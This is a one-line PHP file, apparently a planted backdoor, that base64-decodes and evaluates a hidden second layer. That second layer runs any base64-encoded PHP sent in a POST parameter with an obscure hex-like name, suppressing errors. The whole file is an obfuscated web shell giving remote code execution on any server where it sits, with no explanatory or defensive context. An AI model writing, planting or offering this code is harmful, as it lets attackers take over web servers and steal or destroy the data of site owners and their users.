<?php eval(base64_decode('QGV2YWwoQGJhc2U2NF9kZWNvZGUoJF9QT1NUWydfMHg3YzIxYWInXSkpOw=='));
